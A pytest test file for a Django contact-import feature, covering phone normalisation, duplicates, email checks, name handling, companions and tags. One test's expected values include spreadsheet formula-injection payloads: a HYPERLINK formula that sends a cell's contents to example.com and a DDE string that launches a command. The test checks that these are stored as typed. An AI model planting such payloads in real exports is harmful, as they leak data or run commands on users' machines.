"""From rows to people: what is stored, and why a row is left out."""

import unicodedata

import pytest
from django.utils import translation

from tests.factories import make_contact
from tests.tickets.lists import import_case, import_text, people, problems, totals
from tickets.importing.faults import ROW_SENTENCES, RowFault, RowWarning, sentence_for
from tickets.models import Contact
from tickets.phone_faults import PhoneFault, PhoneWarning

pytestmark = pytest.mark.django_db


def test_br_014_invisible_characters_around_numbers_cost_nobody():
    report = import_case("unicode_invisible")
    assert [phone for _name, phone, _email in people()] == [f"+57300000000{number}" for number in range(1, 7)]
    assert totals(report) == (6, 6, 0, 0, 0, 0, 0)


def test_br_015_shortened_numbers_are_errors_with_their_lines():
    report = import_case("cientifico")
    assert people() == [("David Test", "+573000000004", "")]
    assert problems(report) == [
        (2, "scientific", "5.73E+11"),
        (3, "scientific", "5,73E+11"),
        (4, "scientific", "5.73000000003E+11"),
    ]


def test_br_020_nine_rows_are_four_people():
    report = import_case("duplicados")
    assert people() == [
        ("Ana Prueba", "+573000000001", ""),
        ("Luis Ejemplo", "+525555550101", ""),
        ("Carla Muestra", "+5491155550101", ""),
        ("David Test", "+573000000004", ""),
    ]
    assert totals(report) == (9, 4, 0, 0, 5, 0, 0)
    assert [(repeat.line, repeat.first_line) for repeat in report.repeats] == [(3, 2), (4, 2), (5, 2), (7, 6), (9, 8)]


def test_br_022_people_without_a_phone_are_neither_duplicates_nor_lost():
    report = import_case("sin_telefono")
    assert people() == [
        ("Ana Prueba", "", "ana@example.com"),
        ("Luis Ejemplo", "", "luis@example.com"),
        ("Eva Ficticia", "", "eva@example.com"),
        ("Zoë Ñandú", "+573000000003", ""),
    ]
    assert problems(report) == [(4, "unreachable", "N/A"), (5, "invalid", "0000000000")]
    assert (totals(report), report.without_phone) == ((6, 4, 0, 0, 0, 2, 0), 4)


def test_br_035_formulas_are_stored_as_typed():
    import_case("inyeccion")
    assert [name for name, _phone, _email in people()] == [
        '=HYPERLINK("http://example.com/?d="&A1,"clic")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3 (José)",
        "=1+1",
    ]


def test_br_045_difficult_names_arrive_whole():
    report = import_case("nombres_dificiles")
    assert [name for name, _phone, _email in people()] == [
        "María D'Angelo & Cía <b>",
        "Ana {nombre} Prueba",
        "Luis 100%s {}",
        "Carla 👩\u200d👩\u200d👧\u200d👦 🇨🇴 Muestra",
        unicodedata.normalize("NFC", "José Descompuesto"),
        "Cher",
        "Pérez Prueba, Ana",
        "أنا تجربة",
    ]
    assert problems(report) == [(7, "no_name", "")]
    assert totals(report) == (9, 8, 0, 0, 0, 1, 0)


@pytest.mark.parametrize("name", ["", " \u00a0 ", "\u200d\u200b", "-", "???", "\x00\x07"])
def test_a_row_needs_a_name(name):
    report = import_text(f"nombre,telefono\n{name},3000000001\n")
    assert [problem.code for problem in report.errors] == [RowFault.NO_NAME]


def test_control_characters_never_reach_a_name():
    import_text("nombre,telefono\nAna\x00\x1b\tPrueba\u2028Test,3000000001\n")
    assert people() == [("Ana Prueba Test", "+573000000001", "")]


def test_br_012_the_country_decides_about_bare_digits():
    report = import_text("nombre,telefono\nAna Prueba,955550101\n", country="PE")
    assert people() == [("Ana Prueba", "+51955550101", "")]
    assert (report.country, report.samples[0].phone) == ("PE", "+51955550101")


def test_br_004_a_landline_is_imported_with_a_warning():
    report = import_text("nombre,telefono\nAna Prueba,601 000 0001\nLuis Ejemplo,3000000002\n")
    assert [(problem.line, problem.code, problem.value) for problem in report.warnings] == [
        (2, "landline", "601 000 0001")
    ]
    assert report.created == 2


def test_a_bad_phone_is_an_error_even_beside_a_good_email():
    report = import_text("nombre,telefono,correo\nAna Prueba,300,ana@example.com\n")
    assert (people(), problems(report)) == ([], [(2, "too_short", "300")])


@pytest.mark.parametrize("email", ["ana@", "ana", "ana@example", "ana example.com", "@example.com"])
def test_a_bad_email_is_an_error_even_beside_a_good_phone(email):
    report = import_text(f"nombre,telefono,correo\nAna Prueba,3000000001,{email}\n")
    assert (people(), problems(report)) == ([], [(2, "bad_email", email)])


@pytest.mark.parametrize("email", ["ana@example.com; luis@example.com", "ana@example.com luis@example.com"])
def test_two_emails_are_an_error(email):
    report = import_text(f"nombre,telefono,correo\nAna Prueba,3000000001,{email}\n")
    assert problems(report) == [(2, "two_emails", email)]


@pytest.mark.parametrize("email", ["ANA@Example.com", " ana@example.com ", "ana@example.com;", "\u200eana@example.com"])
def test_emails_are_stored_in_one_form(email):
    import_text(f"nombre,correo\nAna Prueba,{email}\n")
    assert people() == [("Ana Prueba", "", "ana@example.com")]


@pytest.mark.parametrize("email", ["", "-", "N/A", "no tiene", "Sin correo"])
def test_saying_that_there_is_no_email_is_no_error(email):
    import_text(f"nombre,telefono,correo\nAna Prueba,3000000001,{email}\n")
    assert people() == [("Ana Prueba", "+573000000001", "")]


def test_nickname_and_other_columns_are_stored():
    import_text("nombre,celular,apodo,Mesa,Tipo de menú\nAna Prueba,3000000001,Anita,12,\nLuis,3000000002,,,Vegano\n")
    stored = Contact.objects.order_by("pk").values_list("nickname", "attributes")
    assert list(stored) == [("Anita", {"mesa": "12"}), ("", {"tipo_de_menu": "Vegano"})]


@pytest.mark.parametrize(
    ("header", "value"),
    [("nombre", "x" * 151), ("apodo", "x" * 61), ("etiquetas", "x" * 61), ("nota", "x" * 501)],
)
def test_a_text_that_does_not_fit_is_an_error_and_is_not_cut(header, value):
    cells = {"nombre": "Ana Prueba", "telefono": "3000000001"} | {header: value}
    report = import_text(f"{','.join(cells)}\n{','.join(cells.values())}\n")
    assert (people(), problems(report)) == ([], [(2, "text_too_long", value)])


def test_an_email_that_does_not_fit_is_an_error():
    email = f"ana@{'x' * 60}.{'x' * 60}.{'x' * 60}.{'x' * 60}.{'x' * 20}.com"
    report = import_text(f"nombre,correo\nAna Prueba,{email}\n")
    assert [problem.line for problem in report.errors] == [2]


@pytest.mark.parametrize(
    ("cell", "companions"), [("", 0), ("0", 0), ("2", 2), (" 10 ", 10), ("3.0", 3), ("no", 0), ("-", 0)]
)
def test_companions_are_whole_numbers_up_to_ten(cell, companions):
    report = import_text(f"nombre,telefono,Acompañantes\nAna Prueba,3000000001,{cell}\n")
    assert list(report.companions.values()) == [companions]


@pytest.mark.parametrize("cell", ["11", "-1", "1.5", "dos", "100", "1e1", "2 + 1"])
def test_other_companions_are_an_error(cell):
    report = import_text(f"nombre,telefono,Acompañantes\nAna Prueba,3000000001,{cell}\n")
    assert (people(), problems(report)) == ([], [(2, "bad_companions", cell)])


def test_tags_are_found_whatever_their_case_and_created_when_missing():
    contact = make_contact(phone="+573000000001")
    contact.tags.create(name="VIP")
    report = import_text(
        'nombre,telefono,Etiquetas\nAna Prueba,3000000001,"vip, Prensa"\nLuis Ejemplo,3000000002,PRENSA | Vip\n'
    )
    tags = {one.name: sorted(tag.name for tag in one.tags.all()) for one in Contact.objects.all()}
    assert tags == {"Ana Prueba": ["Prensa", "VIP"], "Luis Ejemplo": ["Prensa", "VIP"]}
    assert totals(report) == (2, 1, 1, 0, 0, 0, 0)


def test_br_033_every_row_says_what_is_wrong_with_it():
    with translation.override("en"):
        report = import_text("nombre,telefono,correo\nAna,300,\nLuis,,luis\n,3000000003,\nEva,,\n")
        found = [(problem.line, problem.value, problem.sentence) for problem in report.errors]
    assert found == [
        (2, "300", "“300” has too few digits."),
        (3, "luis", "“luis” is not an e-mail address."),
        (4, "", "This row has no name."),
        (5, "", "This row has neither a phone number nor an e-mail address."),
    ]
    assert report.errors_by_code() == {"too_short": 1, "bad_email": 1, "no_name": 1, "unreachable": 1}


def test_every_code_of_a_row_has_a_sentence_of_its_own():
    assert set(ROW_SENTENCES) == {*RowFault, *RowWarning}
    assert not {str(code) for code in ROW_SENTENCES} & {str(code) for code in (*PhoneFault, *PhoneWarning)}


@pytest.mark.parametrize("code", [*RowFault, *RowWarning])
def test_no_sentence_stumbles_over_what_was_typed(code):
    assert "%(" not in sentence_for(code, "100% {x} %s")
